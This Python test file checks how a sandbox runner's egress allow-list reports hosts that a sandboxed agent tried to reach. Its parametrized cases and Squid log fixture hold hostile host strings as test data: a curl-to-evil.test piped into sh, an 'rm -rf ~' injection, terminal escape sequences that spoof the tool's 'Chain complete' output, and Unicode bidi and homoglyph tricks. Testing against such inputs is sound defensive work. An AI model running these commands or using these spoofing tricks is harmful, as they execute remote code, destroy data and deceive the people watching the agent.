"""The lines saying what the allow-list refused: the agent chose every host in them."""

from __future__ import annotations

import io

import pytest

from sandbox_runner.backends.docker.egress.refusals import parse_denied, refused_warning
from sandbox_runner.backends.docker.egress.squid import FORWARD_PORT
from sandbox_runner.console.output import PlainReporter


def _shown(host: str, port: int | None = 443, count: int = 2) -> str:
    """The warning as plain output shows it."""
    out = io.StringIO()
    PlainReporter(out=out, agent_out=io.BytesIO()).warn(refused_warning(host, port, count))
    return out.getvalue()


def test_a_host_name_is_offered_to_allow() -> None:
    assert _shown("api.example.com") == (
        "[fks] Warning: 2 requests to api.example.com:443 were denied; "
        "allow with --allow api.example.com\n"
    )
    assert _shown("10.0.0.7", 8080, 1) == (
        "[fks] Warning: 1 request to 10.0.0.7:8080 was denied; allow with --allow 10.0.0.7:8080\n"
    )
    assert _shown("Example.COM.", None) == (
        "[fks] Warning: 2 requests to Example.COM. were denied; allow with --allow example.com\n"
    )


@pytest.mark.parametrize(
    ("host", "where"),
    [
        # A command to copy that runs the agent's: Squid logs hosts with ; $ ( | in them.
        ("x.test;curl${IFS}evil.test|sh", "'x.test;curl${IFS}evil.test|sh':443"),
        # A wildcard would allow every subdomain, and the shell would expand it.
        ("*.github.com", "'*.github.com':443"),
        # Spaces (Squid's fields joined up): words of fks's own after the host.
        (
            "a.test were denied; allow with --allow a.test Chain complete (1/1 steps)",
            "'a.test were denied; allow with --allow a.test Chain complete (1/1 steps)':443",
        ),
        ("x\u202egpj.test", "'x\\u202egpj.test':443"),
        ("\u212aelvin.test", "'\\u212aelvin.test':443"),  # lower-cased, it would be a name
        ("x\x1b[2K\rtest\nChain complete", "'x\\x1b[2K\\rtest\\nChain complete':443"),
    ],
)
def test_a_host_that_is_no_host_name_is_shown_quoted_and_not_offered(host: str, where: str) -> None:
    assert _shown(host) == (
        f"[fks] Warning: 2 requests to {where} were denied (not a host name --allow takes)\n"
    )


def test_a_hostile_host_from_squids_log_is_shown_inert() -> None:
    log = (
        f"1700000001.000 TCP_DENIED/403 CONNECT x.test;rm${{IFS}}-rf${{IFS}}~ 443 {FORWARD_PORT} 0 0 -\n"
        f"1700000002.000 TCP_DENIED/403 GET a.test were denied; allow 80 {FORWARD_PORT} 0 0 -\n"
    )
    shown = "".join(_shown(d.host, d.port, d.count) for d in parse_denied(log))
    assert shown == (
        "[fks] Warning: 1 request to 'a.test were denied; allow':80 was denied "
        "(not a host name --allow takes)\n"
        "[fks] Warning: 1 request to 'x.test;rm${IFS}-rf${IFS}~':443 was denied "
        "(not a host name --allow takes)\n"
    )
